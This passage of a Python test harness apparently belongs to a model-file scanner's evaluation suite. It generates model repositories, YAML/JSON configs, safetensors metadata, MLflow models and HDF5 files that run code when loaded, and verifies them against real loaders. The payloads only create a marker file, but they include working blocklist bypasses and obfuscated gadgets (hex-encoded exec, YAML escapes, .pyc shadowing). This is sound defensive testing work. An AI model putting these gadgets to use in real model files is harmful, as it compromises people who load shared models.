        repo / "model_index.json",
        json.dumps(
            {"_class_name": ["pipeline_tiny", "TinyPipeline"], "_diffusers_version": "0.30.0"}
        ),
    )
    write(
        repo / "pipeline_tiny.py",
        textwrap.dedent(
            f"""
            import sys

            from diffusers import DiffusionPipeline

            sys.modules["os"].system("{touch_cmd(marker)}")


            class TinyPipeline(DiffusionPipeline):
                pass
            """
        ),
    )
    return repo


@technique(
    "rc-sentence-transformers-module",
    "remote-code",
    "sentence-transformers 6.3: SentenceTransformer(repo, trust_remote_code=True) imports "
    "the modules.json 'type' from the repository",
    "sentence-transformers docs (custom modules); issue 12 mechanism 5",
    LiveCheck(
        """
import os
from sentence_transformers import SentenceTransformer
try:
    SentenceTransformer(os.environ["TARGET"], trust_remote_code=True, local_files_only=True)
except Exception as exc:
    print(type(exc).__name__, exc)
""",
        paths=(EXTRAS,),
        env=(("HF_HUB_OFFLINE", "1"),),
    ),
)
def rc_st_module(d: Path, marker: Path) -> Path:
    """modules.json entry ``{"type": "st_pooling.Pooling"}`` with ``st_pooling.py`` in the repo."""
    repo = d / "repo"
    write(
        repo / "modules.json",
        json.dumps([{"idx": 0, "name": "0", "path": "", "type": "st_pooling.Pooling"}]),
    )
    write(
        repo / "config_sentence_transformers.json",
        json.dumps({"model_type": "SentenceTransformer"}),
    )
    write(
        repo / "st_pooling.py",
        textwrap.dedent(
            f"""
            import os

            import torch

            os.system("{touch_cmd(marker)}")


            class Pooling(torch.nn.Module):
                pass
            """
        ),
    )
    return repo


# --- Hydra / OmegaConf / NeMo / torchtune -------------------------------------

HYDRA_INSTANTIATE = """
import os
from hydra.utils import instantiate
from omegaconf import OmegaConf
target = os.environ["TARGET"]
cfg = OmegaConf.load(os.path.join(target, "config.yaml") if os.path.isdir(target) else target)
node = OmegaConf.select(cfg, os.environ["NODE"]) if os.environ.get("NODE") else cfg
try:
    instantiate(node)
except Exception as exc:
    print(type(exc).__name__, exc)
"""

NEMO_INSTANTIATE = """
import io, os, tarfile
from hydra.utils import instantiate
from omegaconf import OmegaConf
# NeMo SaveRestoreConnector: unpack the .nemo tar, load model_config.yaml, and
# ModelPT.from_config_dict -> hydra.utils.instantiate for every _target_ module.
with tarfile.open(os.environ["TARGET"], "r:*") as tar:
    member = next(m for m in tar.getmembers() if m.name.endswith("model_config.yaml"))
    cfg = OmegaConf.load(io.BytesIO(tar.extractfile(member).read()))
try:
    instantiate(cfg[os.environ["NODE"]])
except Exception as exc:
    print(type(exc).__name__, exc)
"""


def hydra_live(version: str, node: str = "", nemo: bool = False) -> LiveCheck:
    paths = (HYDRA_132,) if version == "1.3.2" else ()
    return LiveCheck(NEMO_INSTANTIATE if nemo else HYDRA_INSTANTIATE, paths, (("NODE", node),))


def nemo_archive(path: Path, config_yaml: str, compress: bool = False) -> Path:
    import torch

    weights = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(2, 2)}, weights)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in (
            ("./model_config.yaml", config_yaml.encode()),
            ("./model_weights.ckpt", weights.getvalue()),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    raw = buf.getvalue()
    return write(path, gzip.compress(raw) if compress else raw)


NEMO_HEAD = """\
sample_rate: 16000
labels: [" ", "a", "b"]
"""


@technique(
    "hydra-nemo-exec",
    "hydra",
    "NeMo ModelPT.restore_from(.nemo) with hydra-core 1.3.2 (NeMo's pin when the CVE was "
    "filed): instantiate(cfg.preprocessor)",
    "CVE-2025-23304 (NVIDIA NeMo); Unit 42 'RCE in AI/ML Python libraries' (Jan 2026)",
    hydra_live("1.3.2", "preprocessor", nemo=True),
)
def hydra_nemo_exec(d: Path, marker: Path) -> Path:
    """``.nemo`` tar whose ``model_config.yaml`` has ``preprocessor._target_: builtins.exec``."""
    cfg = NEMO_HEAD + textwrap.dedent(
        f"""\
        preprocessor:
          _target_: builtins.exec
          _args_: ["import os; os.system('{touch_cmd(marker)}')"]
        """
    )
    return nemo_archive(d / "asr_model.nemo", cfg)


@technique(
    "hydra-nemo-uuid-bypass",
    "hydra",
    "NeMo .nemo (gzip tar) with hydra-core 1.3.8, whose target blocklist is in force",
    "derived: hydra-core 1.3.8 target_policy does not list uuid._get_command_stdout, "
    "which runs subprocess.Popen on its arguments",
    hydra_live("1.3.8", "preprocessor", nemo=True),
)
def hydra_nemo_uuid(d: Path, marker: Path) -> Path:
    """Gzip-compressed ``.nemo``; ``_target_: uuid._get_command_stdout`` with
    ``_args_: [touch, MARKER]``."""
    cfg = NEMO_HEAD + textwrap.dedent(
        f"""\
        preprocessor:
          _target_: uuid._get_command_stdout
          _args_: [touch, "{marker}"]
        """
    )
    return nemo_archive(d / "asr_model.nemo", cfg, compress=True)


@technique(
    "hydra-open-write-bypass",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.model.cache) on a config.yaml",
    "derived: builtins.open is not on hydra 1.3.8's blocklist; a file write "
    "(e.g. a .pth in site-packages) is code execution at the next start",
    hydra_live("1.3.8", "model.cache"),
)
def hydra_open(d: Path, marker: Path) -> Path:
    """``_target_: builtins.open`` with ``mode: w`` creates (truncates) any file."""
    return write(
        d / "config.yaml",
        textwrap.dedent(
            f"""\
            model:
              hidden: 8
              cache:
                _target_: builtins.open
                file: "{marker}"
                mode: w
            """
        ),
    )


@technique(
    "hydra-asyncio-subprocess-bypass",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.runner)",
    "derived: asyncio.run and asyncio.create_subprocess_exec are not on the 1.3.8 blocklist; "
    "the nested _target_ is instantiated first and its coroutine passed to asyncio.run",
    hydra_live("1.3.8", "runner"),
)
def hydra_asyncio(d: Path, marker: Path) -> Path:
    """``asyncio.run(asyncio.create_subprocess_exec('touch', MARKER))`` as nested targets."""
    return write(
        d / "config.yaml",
        textwrap.dedent(
            f"""\
            runner:
              _target_: asyncio.run
              _args_:
                - _target_: asyncio.create_subprocess_exec
                  _args_: [touch, "{marker}"]
            """
        ),
    )


@technique(
    "hydra-zipimport-bypass",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.plugin), cwd = the repository",
    "derived: zipimport.zipimporter.load_module is not on the 1.3.8 blocklist "
    "(only importlib's loaders are)",
    hydra_live("1.3.8", "plugin"),
)
def hydra_zipimport(d: Path, marker: Path) -> Path:
    """Nested targets import a module from ``assets.zip`` shipped next to the config."""
    repo = d / "repo"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("tinyplugin.py", f"import os\nos.system({touch_cmd(marker)!r})\n")
    write(repo / "assets.zip", buf.getvalue())
    write(
        repo / "config.yaml",
        textwrap.dedent(
            f"""\
            plugin:
              _target_: zipimport.zipimporter.load_module
              _args_:
                - _target_: zipimport.zipimporter
                  _args_: ["{repo / "assets.zip"}"]
                - tinyplugin
            """
        ),
    )
    return repo


@technique(
    "hydra-numpy-load-pickle-bypass",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.stats)",
    "ModelAudit PR #1021 (loader targets as CVE-2025-23304 signals); numpy.load is not on "
    "hydra 1.3.8's blocklist",
    hydra_live("1.3.8", "stats"),
)
def hydra_numpy_load(d: Path, marker: Path) -> Path:
    """``_target_: numpy.load`` with ``allow_pickle: true`` on ``stats.npy`` in the repo,
    an object array whose pickle runs ``os.system``."""
    import numpy as np

    repo = d / "repo"
    buf = io.BytesIO()
    arr = np.empty(1, dtype=object)
    arr[0] = _SystemCall(touch_cmd(marker))
    np.save(buf, arr, allow_pickle=True)
    write(repo / "stats.npy", buf.getvalue())
    write(
        repo / "config.yaml",
        textwrap.dedent(
            f"""\
            stats:
              _target_: numpy.load
              file: "{repo / "stats.npy"}"
              allow_pickle: true
            """
        ),
    )
    return repo


@technique(
    "hydra-interpolated-target",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.model.tokenizer): OmegaConf resolves ${...} first",
    "derived: the target string exists only after interpolation",
    hydra_live("1.3.8", "model.tokenizer"),
)
def hydra_interpolated(d: Path, marker: Path) -> Path:
    """``_target_: ${lib}.${fn}`` with ``lib: uuid`` and ``fn: _get_command_stdout``
    defined elsewhere in the file."""
    return write(
        d / "config.yaml",
        textwrap.dedent(
            f"""\
            lib: uuid
            fn: _get_command_stdout
            model:
              tokenizer:
                _target_: ${{lib}}.${{fn}}
                _args_: [touch, "{marker}"]
            """
        ),
    )


@technique(
    "hydra-yaml-escapes",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.model) after OmegaConf.load (PyYAML escapes)",
    "derived: YAML double-quoted \\x escapes in both the key and the value",
    hydra_live("1.3.8", "model"),
)
def hydra_yaml_escapes(d: Path, marker: Path) -> Path:
    """``"\\x5ftarget\\x5f": "\\x75uid.\\x5fget\\x5fcommand\\x5fstdout"``."""
    return write(
        d / "config.yaml",
        "model:\n"
        '  "\\x5ftarget\\x5f": "\\x75uid.\\x5fget\\x5fcommand\\x5fstdout"\n'
        f'  "\\x5fargs\\x5f": [touch, "{marker}"]\n',
    )


@technique(
    "hydra-yaml-merge-key",
    "hydra",
    "hydra-core 1.3.8 instantiate(cfg.model.encoder); OmegaConf's loader applies YAML merge keys",
    "derived: YAML anchors and << merge keys put _target_ into a node that does not spell it",
    hydra_live("1.3.8", "model.encoder"),
)
def hydra_merge(d: Path, marker: Path) -> Path:
    """The target lives in an anchored node; ``encoder: {<<: *defaults, ...}`` inherits it."""
    return write(
        d / "config.yaml",
        textwrap.dedent(
            f"""\
            defaults_block: &defaults
              _target_: uuid._get_command_stdout
            model:
              encoder:
                <<: *defaults
                _args_: [touch, "{marker}"]
            """
        ),
    )


@technique(
    "hydra-safetensors-metadata",
    "hydra",
    "FlexTok/Uni2TS-style loaders: safetensors __metadata__ config -> hydra.utils.instantiate "
    "(hydra-core 1.3.2)",
    "Unit 42 (Jan 2026): Apple ml-flextok and Salesforce Uni2TS (CVE-2026-22584) "
    "instantiate configs from safetensors metadata / config.json",
    LiveCheck(
        """
import json, os
from safetensors import safe_open
from hydra.utils import instantiate
with safe_open(os.environ["TARGET"], "np") as f:
    cfg = json.loads(f.metadata()["model_config"])
try:
    instantiate(cfg["encoder"])
except Exception as exc:
    print(type(exc).__name__, exc)
""",
        (HYDRA_132,),
    ),
)
def hydra_safetensors(d: Path, marker: Path) -> Path:
    """``model.safetensors`` whose ``__metadata__.model_config`` JSON holds
    ``encoder._target_: builtins.eval``."""
    import numpy as np
    from safetensors.numpy import save_file

    cfg = {
        "encoder": {
            "_target_": "builtins.eval",
            "_args_": [f"__import__('os').system('{touch_cmd(marker)}')"],
        },
        "dim": 8,
    }
    path = d / "model.safetensors"
    path.parent.mkdir(parents=True, exist_ok=True)
    save_file({"w": np.zeros((2, 2), np.float32)}, str(path), {"model_config": json.dumps(cfg)})
    return path


@technique(
    "hydra-config-json-nested",
    "hydra",
    "PyTorchModelHubMixin models that decode config.json values with hydra instantiate "
    "(Uni2TS pattern), hydra-core 1.3.2",
    "CVE-2026-22584 (Salesforce Uni2TS); relik PR #40 (config from the Hub into instantiate)",
    LiveCheck(
        """
import json, os
from hydra.utils import instantiate
cfg = json.load(open(os.path.join(os.environ["TARGET"], "config.json")))
try:
    instantiate(cfg["module_kwargs"]["distr_output"])
except Exception as exc:
    print(type(exc).__name__, exc)
""",
        (HYDRA_132,),
    ),
)
def hydra_config_json(d: Path, marker: Path) -> Path:
    """config.json with ``module_kwargs.distr_output._target_: subprocess.check_call``."""
    repo = d / "repo"
    write(
        repo / "config.json",
        json.dumps(
            {
                "module_kwargs": {
                    "d_model": 8,
                    "distr_output": {
                        "_target_": "subprocess.check_call",
                        "_args_": [["touch", str(marker)]],
                    },
                }
            },
            indent=2,
        ),
    )
    return repo


@technique(
    "omegaconf-eval-resolver",
    "hydra",
    "OmegaConf 2.3 in applications that register an 'eval' resolver (the OmegaConf how-to; "
    "many research repositories) and resolve the loaded config",
    "OmegaConf docs 'How to perform arithmetic using eval as a resolver'; "
    "e.g. register_new_resolver('eval', eval) in public training code",
    LiveCheck(
        """
import os
from omegaconf import OmegaConf
OmegaConf.register_new_resolver("eval", eval)
cfg = OmegaConf.load(os.environ["TARGET"])
OmegaConf.to_container(cfg, resolve=True)
"""
    ),
)
def omegaconf_eval(d: Path, marker: Path) -> Path:
    """``hidden: ${eval:'...'}`` that imports ``os`` inside the expression."""
    return write(
        d / "config.yaml",
        textwrap.dedent(
            f"""\
            model:
              layers: 2
              hidden: "${{eval:'__import__(\\"os\\").system(\\"{touch_cmd(marker)}\\") or 8'}}"
            """
        ),
    )


@technique(
    "torchtune-component",
    "hydra",
    "torchtune 0.6.1 config.instantiate(cfg.tokenizer) (its own _component_ instantiation)",
    "torchtune docs (config _component_); same class as CVE-2025-23304",
    LiveCheck(
        """
import os, sys, types, importlib.util
# torchtune/__init__.py insists on torchao's nf4 module; load the config package alone.
spec = importlib.util.find_spec("torchtune")
pkg = types.ModuleType("torchtune"); pkg.__path__ = list(spec.submodule_search_locations)
sys.modules["torchtune"] = pkg
from torchtune.config._instantiate import instantiate
from omegaconf import OmegaConf
cfg = OmegaConf.load(os.environ["TARGET"])
try:
    instantiate(cfg.tokenizer)
except Exception as exc:
    print(type(exc).__name__, exc)
""",
        (EXTRAS,),
    ),
)
def torchtune_component(d: Path, marker: Path) -> Path:
    """``tokenizer: {_component_: os.system, command: ...}`` in a torchtune recipe config."""
    return write(
        d / "llama3_lora.yaml",
        textwrap.dedent(
            f"""\
            output_dir: /tmp/out
            tokenizer:
              _component_: os.system
              command: "{touch_cmd(marker)}"
            model:
              _component_: torchtune.models.llama3_2.lora_llama3_2_1b
              lora_rank: 8
            """
        ),
    )


# --- SpeechBrain hyperpyyaml ---------------------------------------------------

HYPERPYYAML_LIVE = LiveCheck(
    """
import os, sys
from hyperpyyaml import load_hyperpyyaml
target = os.environ["TARGET"]
repo = target if os.path.isdir(target) else os.path.dirname(target)
path = os.path.join(target, "hyperparams.yaml") if os.path.isdir(target) else target
sys.path.insert(0, repo)  # SpeechBrain's pymodule_file / custom.py is importable
os.chdir(repo)
with open(path) as fh:
    load_hyperpyyaml(fh)
"""
)
SB_LOADER = "SpeechBrain from_hparams -> hyperpyyaml 1.2.3 load_hyperpyyaml(hyperparams.yaml)"


@technique(
    "hyperpyyaml-apply",
    "hyperpyyaml",
    SB_LOADER,
    "hyperpyyaml docs (!apply tag); issue 12 mechanism 4",
    HYPERPYYAML_LIVE,
)
def hpy_apply(d: Path, marker: Path) -> Path:
    """``!apply:os.system`` in hyperparams.yaml."""
    return write(
        d / "hyperparams.yaml",
        f'sample_rate: 16000\nseed: !apply:os.system ["{touch_cmd(marker)}"]\n',
    )


@technique(
    "hyperpyyaml-python-tag",
    "hyperpyyaml",
    SB_LOADER + " (ruamel's unsafe constructors are still registered)",
    "derived: hyperpyyaml parses with ruamel.yaml's full loader, so !!python/object/apply works",
    HYPERPYYAML_LIVE,
)
def hpy_python_tag(d: Path, marker: Path) -> Path:
    """``!!python/object/apply:subprocess.check_call``: a PyYAML tag, not a hyperpyyaml one."""
    return write(
        d / "hyperparams.yaml",
        "sample_rate: 16000\n"
        f'probe: !!python/object/apply:subprocess.check_call [["touch", "{marker}"]]\n',
    )


@technique(
    "hyperpyyaml-include-txt",
    "hyperpyyaml",
    SB_LOADER + "; !include: loads another file relative to the working directory",
    "hyperpyyaml docs (!include tag)",
    HYPERPYYAML_LIVE,
)
def hpy_include(d: Path, marker: Path) -> Path:
    """hyperparams.yaml is clean except ``!include:labels.txt``; the ``!new:subprocess.Popen``
    is in the .txt file."""
    repo = d / "repo"
    write(repo / "hyperparams.yaml", "sample_rate: 16000\nlabels: !include:labels.txt\n")
    write(
        repo / "labels.txt",
        f'proc: !new:subprocess.Popen\n  args: [touch, "{marker}"]\nwait: !apply:time.sleep [1]\n',
    )
    return repo


@technique(
    "hyperpyyaml-eval-hex",
    "hyperpyyaml",
    SB_LOADER,
    "derived: !apply:builtins.eval of exec(bytes.fromhex(...))",
    HYPERPYYAML_LIVE,
)
def hpy_eval(d: Path, marker: Path) -> Path:
    """``!apply:builtins.eval`` of ``exec(bytes.fromhex('...').decode())``."""
    code = f"import os; os.system('{touch_cmd(marker)}')".encode().hex()
    return write(
        d / "hyperparams.yaml",
        "sample_rate: 16000\n"
        f"x: !apply:builtins.eval [\"exec(bytes.fromhex('{code}').decode())\"]\n",
    )


@technique(
    "hyperpyyaml-custom-module",
    "hyperpyyaml",
    "SpeechBrain foreign_class / from_hparams(pymodule_file='custom_interface.py'): the repo's "
    "module is importable and !new:custom_interface.Model imports it",
    "SpeechBrain docs (custom interfaces, pymodule_file)",
    HYPERPYYAML_LIVE,
)
def hpy_custom_module(d: Path, marker: Path) -> Path:
    """Clean YAML (``!new:custom_interface.Model``); module-level payload in custom_interface.py."""
    repo = d / "repo"
    write(repo / "hyperparams.yaml", "sample_rate: 16000\nmodel: !new:custom_interface.Model\n")
    write(
        repo / "custom_interface.py",
        f"import os\n\n_rc = os.system({touch_cmd(marker)!r})\n\n\nclass Model:\n    pass\n",
    )
    return repo


# --- MLflow ------------------------------------------------------------------

MLFLOW_LIVE = LiveCheck(
    """
import os, mlflow.pyfunc
try:
    mlflow.pyfunc.load_model(os.environ["TARGET"])
except Exception as exc:
    print(type(exc).__name__, exc)
"""
)


def mlmodel(repo: Path, pyfunc: dict[str, Any]) -> None:
    import yaml

    write(
        repo / "MLmodel",
        yaml.safe_dump(
            {
                "artifact_path": "model",
                "flavors": {"python_function": {"python_version": "3.11.0", **pyfunc}},
                "mlflow_version": "2.12.0",
                "model_uuid": "0f4b2c1e",
            }
        ),
    )


@technique(
    "mlflow-loader-module-code",
    "mlflow",
    "mlflow-skinny 3.18 mlflow.pyfunc.load_model: adds code/ to sys.path and imports "
    "loader_module (runs with default settings)",
    "MLflow docs (custom pyfunc loader_module + code_paths); issue 12 mechanism 4",
    MLFLOW_LIVE,
)
def mlflow_loader(d: Path, marker: Path) -> Path:
    """``loader_module: tiny_loader`` with ``code/tiny_loader.py`` running the payload at import."""
    repo = d / "repo"
    mlmodel(repo, {"loader_module": "tiny_loader", "code": "code", "data": "data"})
    write(repo / "data" / "weights.txt", "1 2 3\n")
    write(
        repo / "code" / "tiny_loader.py",
        f"import os\n\nos.system({touch_cmd(marker)!r})\n\n\ndef _load_pyfunc(path):\n"
        "    return None\n",
    )
    return repo


@technique(
    "mlflow-cloudpickle-model",
    "mlflow",
    "mlflow-skinny 3.18 load_model with MLFLOW_ALLOW_MODEL_CODE_EXECUTION=true (the documented "
    "opt-in; older MLflow loads it by default): cloudpickle.load(python_model.pkl)",
    "MLflow pyfunc python_model format; JFrog/HiddenLayer MLflow research",
    LiveCheck(MLFLOW_LIVE.code, env=(("MLFLOW_ALLOW_MODEL_CODE_EXECUTION", "true"),)),
)
def mlflow_cloudpickle(d: Path, marker: Path) -> Path:
    """``python_model: python_model.pkl`` holding an ``os.system`` reduce."""
    repo = d / "repo"
    mlmodel(
        repo,
        {
            "loader_module": "mlflow.pyfunc.model",
            "python_model": "python_model.pkl",
            "cloudpickle_version": "3.1.1",
        },
    )
    write(repo / "python_model.pkl", system_pickle(marker))
    return repo


@technique(
    "mlflow-models-from-code",
    "mlflow",
    "mlflow-skinny 3.18 load_model, models-from-code (model_code_path), with "
    "MLFLOW_ALLOW_MODEL_CODE_EXECUTION=true",
    "MLflow docs 'Models From Code' (2.12+)",
    LiveCheck(MLFLOW_LIVE.code, env=(("MLFLOW_ALLOW_MODEL_CODE_EXECUTION", "true"),)),
)
def mlflow_from_code(d: Path, marker: Path) -> Path:
    """``model_code_path: agent.py``; the file is executed to build the model."""
    repo = d / "repo"
    mlmodel(repo, {"loader_module": "mlflow.pyfunc.model", "model_code_path": "agent.py"})
    write(
        repo / "agent.py",
        f"import subprocess\n\nsubprocess.run(['touch', {str(marker)!r}])\n",
    )
    return repo


# --- PyTables / pandas HDF5 ----------------------------------------------------


def pytables_attr_file(path: Path, value: bytes, userblock: int = 0) -> Path:
    import h5py
    import numpy as np
    import tables

    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w", userblock_size=userblock or None) as f:
        f.create_dataset("embeddings", data=np.zeros((4, 4), np.float32))
    with tables.open_file(str(path), "a") as f:
        f.root._v_attrs.NOTE = np.bytes_(value)
    return path


TABLES_OPEN = LiveCheck(
    """
import os, tables
tables.open_file(os.environ["TARGET"]).close()
"""
)
PANDAS_READ = LiveCheck(
    """
import os, pandas as pd
try:
    pd.read_hdf(os.environ["TARGET"], "df")
except Exception as exc:
    print(type(exc).__name__, exc)
"""
)


@technique(
    "pytables-root-attr-pickle",
    "hdf5",
    "PyTables 3.11 tables.open_file (root group attributes are read at open)",
    "PyTables AttributeSet: bytes attributes ending in '.' are pickle.loads-ed; "
    "issue 12 mechanism 4",
    TABLES_OPEN,
)
def pytables_root(d: Path, marker: Path) -> Path:
    """Root-group attribute ``NOTE`` holding a protocol-4 pickle; opening the file runs it."""
    return pytables_attr_file(d / "vectors.h5", system_pickle(marker))


@technique(
    "pytables-protocol0-attr-userblock",
    "hdf5",
    "PyTables 3.11 tables.open_file on an HDF5 file with a 512-byte user block",
    "derived: a protocol-0 pickle is printable text (no 0x80 header) and the HDF5 "
    "signature sits at 512 (issue 12 mechanism 1)",
    TABLES_OPEN,
)
def pytables_p0(d: Path, marker: Path) -> Path:
    """Protocol-0 text pickle ``cos\\nsystem\\n(S'...'\\ntR.`` as an attribute, in a file
    with a user block."""
    p0 = f"cos\nsystem\n(S'{touch_cmd(marker)}'\ntR.".encode()
    return pytables_attr_file(d / "index.h5", p0, userblock=512)


@technique(
    "pandas-table-attr-pickle",
    "hdf5",
    "pandas 3.1 read_hdf(path, 'df') on a table-format store",
    "pandas HDFStore keeps non_index_axes/levels/info as pickled attributes; issue 12 mechanism 4",
    PANDAS_READ,
)
def pandas_table(d: Path, marker: Path) -> Path:
    """Table-format store whose ``non_index_axes`` attribute is replaced by a payload pickle."""
    import numpy as np
    import pandas as pd
    import tables

    path = d / "frame.h5"
    path.parent.mkdir(parents=True, exist_ok=True)
    pd.DataFrame({"a": [1, 2], "b": [3.0, 4.0]}).to_hdf(path, key="df", format="table")
    with tables.open_file(str(path), "a") as f:
        f.root.df.table.attrs.non_index_axes = np.bytes_(system_pickle(marker, protocol=2))
    return path


@technique(
    "pandas-fixed-object-vlarray",
    "hdf5",
    "pandas 3.1 read_hdf(path, 'df') on a fixed-format store with an object column",
    "pandas fixed format stores object blocks as a PyTables VLArray of ObjectAtom "
    "(one pickle per row)",
    PANDAS_READ,
)
def pandas_fixed(d: Path, marker: Path) -> Path:
    """``block0_values`` is a VLArray whose ObjectAtom row is an ``os.system`` pickle."""
    import warnings

    import pandas as pd

    path = d / "frame.h5"
    path.parent.mkdir(parents=True, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        pd.DataFrame({"a": [_SystemCall(touch_cmd(marker)), 1]}).to_hdf(
            path, key="df", format="fixed"
        )
    return path


# --- phase 2: white-box bypasses found by reading the analysers ----------------
# Added after the untuned table was recorded; each is also a regression test
# (tests/scanning/test_config_attacks.py).

P2 = "phase-2"
SPEECHBRAIN = LOADERS / "speechbrain"


def _p2_remote(name: str, source: str, why: str) -> None:
    def build(d: Path, marker: Path) -> Path:
        return remote_config_repo(d, source.format(cmd=touch_cmd(marker), marker=marker))

    build.__doc__ = why
    technique(
        f"p2-rc-{name}",
        "remote-code",
        RC_LOADER,
        "white-box: a gap in openward's Python data flow",
        REMOTE_LIVE,
        P2,
    )(build)


_p2_remote(
    "dict-dispatch",
    'import os\n\nHANDLERS = {{"run": os.system}}\nHANDLERS["run"]("{cmd}")\n',
    "A primitive stored in a dict and called through a subscript.",
)
_p2_remote(
    "class-attribute",
    'import os\n\n\nclass Launcher:\n    run = os.system\n\n\nLauncher.run("{cmd}")\n',
    "A primitive bound in a class body and called as a class attribute.",
)
_p2_remote(
    "default-parameter",
    'import os\n\n\ndef go(cmd, runner=os.system):\n    runner(cmd)\n\n\ngo("{cmd}")\n',
    "A primitive reached through a parameter's default value.",
)
_p2_remote(
    "frame-builtins",
    'import sys\n\nsys._getframe().f_builtins["ex" + "ec"]("import os; os.system(\'{cmd}\')")\n',
    "exec taken from a frame's f_builtins.",
)
_p2_remote(
    "builtin-self",
    "print.__self__.exec(\"import os; os.system('{cmd}')\")\n",
    "The builtins module reached as print.__self__.",
)
_p2_remote(
    "timeit",
    "import timeit\n\ntimeit.timeit(\"import os; os.system('{cmd}')\", number=1)\n",
    "timeit runs its statement string.",
)
_p2_remote(
    "breakpointhook",
    'import os\nimport sys\n\nsys.breakpointhook = os.system\nbreakpoint("{cmd}")\n',
    "A primitive stored into an interpreter hook, then triggered.",
)

HYDRA_P2 = "hydra-core 1.3.8 instantiate(cfg.model.x): a gadget inside a library openward trusted"


@technique(
    "p2-hydra-benchmark-timer",
    "hydra",
    HYDRA_P2,
    "white-box: torch was a trusted namespace; torch.utils.benchmark.Timer runs stmt",
    hydra_live("1.3.8", "model.x"),
    P2,
)
def p2_timer(d: Path, marker: Path) -> Path:
    """Nested targets ``Timer.timeit(Timer(stmt=...), 1)``."""
    stmt = f"import os; os.system('{touch_cmd(marker)}')"
    return write(
        d / "config.yaml",
        "model:\n  x:\n    _target_: torch.utils.benchmark.Timer.timeit\n    _args_:\n"
        "      - _target_: torch.utils.benchmark.Timer\n"
        f"        stmt: {json.dumps(stmt)}\n      - 1\n",
    )


@technique(
    "p2-hydra-torchrun",
    "hydra",
    HYDRA_P2,
    "white-box: torch.distributed.run.main (torchrun) in a trusted namespace",
    hydra_live("1.3.8", "model.x"),
    P2,
)
def p2_torchrun(d: Path, marker: Path) -> Path:
    """``torch.distributed.run.main`` launching ``prepare.py`` shipped with the config."""
    repo = d / "repo"
    write(repo / "prepare.py", f"open({str(marker)!r}, 'w').close()\n")
    return write(
        repo / "config.yaml",
        "model:\n  x:\n    _target_: torch.distributed.run.main\n    _args_:\n"
        f'      - ["--nproc_per_node=1", "--master_port=29561", "{repo / "prepare.py"}"]\n',
    ).parent


@technique(
    "p2-hydra-storage-from-file",
    "hydra",
    HYDRA_P2,
    "white-box: torch.UntypedStorage.from_file(shared=True) in a trusted namespace "
    "(issue 12 names torch.from_file as a write primitive)",
    hydra_live("1.3.8", "model.x"),
    P2,
)
def p2_from_file(d: Path, marker: Path) -> Path:
    """Creates (or truncates) any file."""
    return write(
        d / "config.yaml",
        "model:\n  x:\n    _target_: torch.UntypedStorage.from_file\n"
        f'    filename: "{marker}"\n    shared: true\n    nbytes: 8\n',
    )


@technique(
    "p2-hydra-operator-call",
    "hydra",
    "hydra-core 1.3.2 instantiate(cfg.model.x)",
    "white-box: operator.call was trusted (before the fix only the bound helper, which the "
    "denylist knows, was reported)",
    hydra_live("1.3.2", "model.x"),
    P2,
)
def p2_operator_call(d: Path, marker: Path) -> Path:
    """``operator.call(partial(uuid._get_command_stdout), 'touch', MARKER)``."""
    return write(
        d / "config.yaml",
        "model:\n  x:\n    _target_: operator.call\n    _args_:\n"
        "      - _target_: uuid._get_command_stdout\n        _partial_: true\n"
        f'      - touch\n      - "{marker}"\n',
    )


@technique(
    "p2-hyperpyyaml-run-shell",
    "hyperpyyaml",
    SB_LOADER + " with speechbrain 1.x installed (torchaudio stubbed: the gadget does not use it)",
    "white-box: speechbrain was a trusted namespace; speechbrain.utils.superpowers.run_shell",
    LiveCheck(
        "import sys\nfrom unittest import mock\nsys.modules['torchaudio'] = mock.MagicMock()\n"
        + HYPERPYYAML_LIVE.code,
        (SPEECHBRAIN,),
    ),
    P2,
)
def p2_run_shell(d: Path, marker: Path) -> Path:
    """SpeechBrain's own shell helper called from hyperparams.yaml."""
    return write(
        d / "hyperparams.yaml",
        "sample_rate: 16000\n"
        f'x: !apply:speechbrain.utils.superpowers.run_shell ["{touch_cmd(marker)}"]\n',
    )


@technique(
    "p2-hyperpyyaml-compiled-module",
    "hyperpyyaml",
    SB_LOADER + "; the model folder is on sys.path (custom interfaces)",
    "white-box: a module shipped with the config was low, even as a .pyc without source",
    HYPERPYYAML_LIVE,
    P2,
)
def p2_compiled_module(d: Path, marker: Path) -> Path:
    """``!new:custom_interface.Model`` where only ``custom_interface.pyc`` ships."""
    import py_compile

    repo = d / "repo"
    write(repo / "hyperparams.yaml", "sample_rate: 16000\nmodel: !new:custom_interface.Model\n")
    source = write(d / "custom_interface.py", f"import os\nos.system({touch_cmd(marker)!r})\n")
    source.write_text(source.read_text() + "\n\nclass Model:\n    pass\n")
    py_compile.compile(str(source), cfile=str(repo / "custom_interface.pyc"), doraise=True)
    source.unlink()
    return repo


@technique(
    "p2-mlflow-pyc-shadow",
    "mlflow",
    "mlflow-skinny 3.18 load_model of a built-in pytorch-flavor model: code/ goes first on "
    "sys.path, then mlflow.pytorch imports torch",
    "white-box: code directories were medium whatever they held",
    MLFLOW_LIVE,
    P2,
)
def p2_mlflow_shadow(d: Path, marker: Path) -> Path:
    """``code/torch.pyc`` (no source) shadows torch for the built-in ``mlflow.pytorch``."""
    import py_compile

    repo = d / "repo"
    mlmodel(
        repo,
        {
            "loader_module": "mlflow.pytorch",
            "data": "data",
            "code": "code",
            "pickle_module_name": "mlflow.pytorch.pickle_module",
        },
    )
    (repo / "data").mkdir()
    source = write(d / "torch.py", f"import os\nos.system({touch_cmd(marker)!r})\n")
    py_compile.compile(str(source), cfile=str(repo / "code" / "torch.pyc"), doraise=True)
    source.unlink()
    return repo


# ---------------------------------------------------------------------------
# Liveness
# ---------------------------------------------------------------------------


def check_live(tech: Technique, target: Path, marker: Path, scratch: Path) -> tuple[str, str]:
    """Run the real loader on ``target``; ``live`` when the marker appears."""
    if tech.live is None:
        return "n/a", "loader not installable here"
